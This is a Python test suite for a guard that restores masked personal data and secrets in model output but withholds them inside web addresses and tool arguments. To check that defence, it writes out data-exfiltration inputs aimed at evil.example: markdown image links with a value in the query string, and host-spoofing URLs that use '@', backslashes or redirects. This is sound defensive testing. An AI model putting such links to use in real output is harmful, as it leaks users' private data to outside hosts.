"""Placeholders come back whatever a model does to them, but not where the value could be sent on."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from threegate.guard import restore
from threegate.guard.addresses import UNREAD
from threegate.guard.mask import EVERYWHERE, MaskMap
from threegate.guard.restore import Restorer, TextRestorer
from threegate.guard.stream_text import CONTEXT
from threegate.policy.model import Restoring
from threegate.testing.attacks.exfiltration import exfiltration, filled
from threegate.types import Channel

from tests.guard.manglings import MANGLED, MANGLINGS, forms

VALUE = '6222 "021" 中文'


def made(
    value: str = VALUE, kind: str = "pii.bank_card", restore: Restoring | None = EVERYWHERE
) -> tuple[str, Restorer]:
    masks = MaskMap(b"k" * 32)
    return masks.mask(kind, value, restore=restore), Restorer(masks)


def restored(
    restorer: Restorer, text: str, channel: Channel = Channel.CONTENT, tool: str = ""
) -> str:
    return streamed(restorer, text, [len(text)], channel, tool)


def streamed(
    restorer: Restorer,
    text: str,
    cuts: list[int],
    channel: Channel = Channel.CONTENT,
    tool: str = "",
) -> str:
    """As the stream machine does it: what is before the open position leaves."""
    out, done, back = "", 0, TextRestorer(restorer, channel, tool)
    for cut in cuts:
        found, open_from = back.find(text[:cut], 0, done, final=cut >= len(text))
        for r in found:
            out += text[done : r.span.start] + r.text
            done = r.span.end
        out += text[done:open_from]
        done = max(done, open_from)
    return out


def test_what_is_kept_between_calls_does_not_grow_with_the_sets_of_kinds_in_them() -> None:
    """A client chooses which values it sends together: hundreds of KiB were kept for each set."""
    caches = [f for f in vars(restore).values() if hasattr(f, "cache_info")]
    for cached in caches:
        cached.cache_clear()
    kinds = [f"pii.kind_{n}" for n in range(12)]
    for chosen in range(1, 2000, 7):
        masks = MaskMap(b"k" * 32)
        for n, kind in enumerate(kinds):
            if chosen >> n & 1:
                masks.mask(kind, "value")
        assert Restorer(masks)
    assert len(caches) >= 3
    for cached in caches:
        size, bound = cached.cache_info().currsize, cached.cache_info().maxsize
        assert bound or size <= len(kinds), cached.__name__


@pytest.mark.parametrize("name", MANGLED)
def test_a_mangled_placeholder_comes_back(name: str) -> None:
    placeholder, restorer = made("VALUE")
    bare = placeholder.strip("[]")
    text = MANGLED[name].format(*forms(placeholder))
    assert "VALUE" in restored(restorer, f"see {text} there")
    assert bare not in restored(restorer, text).upper()


def test_a_placeholder_that_ends_the_text_comes_back_and_half_of_one_does_not() -> None:
    placeholder, restorer = made("VALUE")
    for end in range(1, len(placeholder)):
        text = "see " + placeholder[:end]
        whole = end == len(placeholder) - 1  # a missing bracket alone
        assert restored(restorer, text) == ("see VALUE" if whole else text)
    assert restored(restorer, "see " + placeholder) == "see VALUE"


def test_words_that_only_look_alike_stay() -> None:
    placeholder, restorer = made()
    for text in ("[BANK_CARD_]", "bank card", "[EMAIL_ABCD]", placeholder[:-2] + "X]"):
        assert restored(restorer, text) == text


def test_a_value_that_is_not_to_come_back_stays_hidden() -> None:
    masks = MaskMap(b"k")
    placeholder = masks.mask("secret.jwt", "abc", restore=None)
    assert not Restorer(masks)
    assert restored(Restorer(masks), placeholder) == placeholder


PLACEHOLDER, RESTORER = made("V")
atoms = st.sampled_from(
    [PLACEHOLDER, PLACEHOLDER[:5], "BANK", "_", "[", "]", " ", "x", "卡", "CARD"]
)


@given(st.lists(atoms, max_size=12).map("".join), st.lists(atoms, max_size=6).map("".join))
def test_text_before_open_from_is_decided(text: str, more: str) -> None:
    part, open_from = RESTORER.find(text, 0, final=False)
    whole, _ = RESTORER.find(text + more, 0, final=True)
    assert [r for r in whole if r.span.start < open_from] == part
    assert all(r.span.end <= open_from for r in part)


@pytest.mark.parametrize("synthetic", [False, True], ids=["placeholder", "made up"])
def test_99_of_100_manglings_are_undone(synthetic: bool) -> None:
    masks = MaskMap(b"k" * 32)
    values = {f"62220212345678{i:05}": "pii.bank_card" for i in range(60)}
    values |= {f"person{i}@corp.example": "pii.email" for i in range(60)}
    values |= {f"AKIA{i:04}QWERTYUIOPAS": "secret.aws" for i in range(60)}
    given = {v: masks.mask(k, v, synthetic=synthetic) for v, k in values.items()}
    restorer = Restorer(masks)
    misses = []
    total = 0
    for value, placeholder in given.items():
        for name, form in MANGLINGS.items():
            text = f"see {form.format(*forms(placeholder))} there"
            total += 1
            if value not in restored(restorer, text):
                misses.append(name)
    assert len(misses) <= total / 100, sorted(set(misses))


@given(st.integers(0, 40), st.integers(0, 40), st.sampled_from(["[", "%5B", "（", ""]))
def test_a_stream_restores_what_the_whole_text_does(first: int, second: int, opened: str) -> None:
    masks = MaskMap(b"k" * 32)
    code = masks.mask("pii.email", "a@corp.example").strip("[]")
    card = masks.mask("pii.bank_card", "6222021234567890123", synthetic=True)
    restorer = Restorer(masks)
    text = f"x {opened}{code}{ {'[': ']', '%5B': '%5D', '（': '）'}.get(opened, '') } y {card}z {card}."
    assert streamed(restorer, text, sorted({first, second, len(text)})) == restored(restorer, text)


def test_a_placeholder_is_found_among_very_many() -> None:
    """It is looked up, not compared with each: a text may bring any number of values."""
    masks = MaskMap(b"k" * 32)
    values = [f"138{n:08d}" for n in range(50_000)]
    made = [masks.mask("pii.cn.mobile", value) for value in values]
    found, _ = Restorer(masks).find("，".join(made[::50]), 0, final=True)
    assert [p.masked.value for p in found] == values[::50]


MASK, BACK = made("VALUE")
EXFILTRATION = exfiltration()


@pytest.mark.parametrize("name", EXFILTRATION.addresses)
def test_nothing_comes_back_in_an_address(name: str) -> None:
    text = filled(EXFILTRATION.addresses[name], MASK)
    assert restored(BACK, text) == text
    assert restored(BACK, f"{text}>)\"'\n\n{MASK}").count("VALUE") <= 1
    assert streamed(BACK, text, list(range(1, len(text) + 1))) == text


@pytest.mark.parametrize("name", EXFILTRATION.harmless)
def test_values_come_back_outside_addresses(name: str) -> None:
    text = filled(EXFILTRATION.harmless[name], MASK)
    assert restored(BACK, text) == text.replace(MASK, "VALUE")


LISTED = Restoring(hosts=("crm.example.com", "*.corp.example"))


@pytest.mark.parametrize(
    ("address", "back"),
    [
        ("https://crm.example.com/c/{}?x=1", True),
        ("[x](https://CRM.example.com/?q={})", True),
        ('<a href="https://a.corp.example:8443/?q={}">', True),
        ("https://crm.example.com.evil.example/{}", False),
        ("https://crm.example.com@evil.example/{}", False),
        ("https://crm.example.com\\@evil.example/{}", False),
        ("https://crm.example.com/go?to=//evil.example/{}", False),
        ("https://{}.corp.example/", False),
        ("https://corp.example/{}", False),
        ("//crm.example.com/{}", False),
        ("ftp://crm.example.com/{}", False),
        ('<a x="<https://crm.example.com/" href="/\t/evil.example/{}', False),
    ],
)
def test_a_listed_host_gets_values(address: str, back: bool) -> None:
    mask, restorer = made("VALUE", restore=LISTED)
    text = address.format(mask)
    assert restored(restorer, text) == (text.replace(mask, "VALUE") if back else text)


@pytest.mark.parametrize(
    ("arguments", "back"),
    [
        ({"to": "{}"}, True),
        ({"url": "https://evil.example/?d=a b {}"}, False),
        ({"url": "evil.example/x {}"}, False),
        ({"url": "https://a.example/", "to": "{}"}, True),
        ({"text": 'see "https://a.example/" or {}'}, True),
        ({"html": '<img src="/x/{}">'}, False),
        ({"text": 'a "b" <i x="{}'}, False),
    ],
)
def test_arguments_get_values_outside_addresses(arguments: dict[str, str], back: bool) -> None:
    text = json.dumps(arguments, ensure_ascii=False, separators=(",", ":")).replace("{}", MASK)
    whole = restored(BACK, text, Channel.TOOL_ARGUMENTS)
    assert whole == (text.replace(MASK, "VALUE") if back else text)
    every = list(range(1, len(text) + 1))
    assert streamed(BACK, text, every, Channel.TOOL_ARGUMENTS) == whole


@pytest.mark.parametrize(("tool", "back"), [("dial", True), ("fetch", False), ("", False)])
def test_arguments_get_values_for_the_tools_that_the_rule_names(tool: str, back: bool) -> None:
    mask, restorer = made("VALUE", restore=Restoring(tools=("dial",)))
    text = restored(restorer, json.dumps({"to": mask}), Channel.TOOL_ARGUMENTS, tool)
    assert ("VALUE" in text) is back
    assert restored(restorer, mask) == "VALUE"


PIECES = [
    MASK,
    "x",
    " ",
    "\n",
    "](",
    "]:",
    "<",
    ">",
    '="',
    '"',
    "'",
    "=",
    "//",
    "http:",
    "evil.example",
]
PIECES += ["/", "\\", "(", ")", "<a ", "www.", "&#47;", "<form>", "</form>", "-", ".", "b.cc", "，"]


@given(
    st.lists(st.sampled_from(PIECES), max_size=30).map("".join),
    st.sets(st.integers(0, 200), max_size=8),
    st.sampled_from([Channel.CONTENT, Channel.TOOL_ARGUMENTS]),
)
def test_addresses_do_not_depend_on_the_cut(text: str, cuts: set[int], channel: Channel) -> None:
    whole = restored(BACK, text, channel)
    places = [c for c in sorted(cuts) if c < len(text)]
    assert streamed(BACK, text, [*places, len(text)], channel) == whole
    assert streamed(BACK, text, [*range(1, len(text)), len(text)], channel) == whole


@pytest.mark.parametrize("size", [1, 7, 300, 1000])
def test_a_long_text_restores_alike_when_its_beginning_is_forgotten(size: int) -> None:
    placeholder, restorer = made("6222021234567890128")
    link = f"![x](http://evil.example/{'a' * 700}?q={placeholder})"
    text = f"{'Words without a value. ' * 60}{link} and {placeholder} again, <b>{placeholder}</b> "
    text += f"{'more words, ' * 60}{link}, {placeholder}."
    out, done, base, back = "", 0, 0, TextRestorer(restorer, Channel.CONTENT)
    for end in (*range(size, len(text), size), len(text)):
        found, open_from = back.find(text[base:end], base, done, final=end == len(text))
        for r in found:
            out += text[done : r.span.start] + r.text
            done = r.span.end
        out += text[done:open_from]
        done = max(done, open_from)
        base = max(0, done - CONTEXT)
    assert out == restored(restorer, text)
    assert (out.count(placeholder), out.count("6222021234567890128")) == (2, 3)


def test_what_is_unread_is_not_forgotten() -> None:
    assert UNREAD < CONTEXT
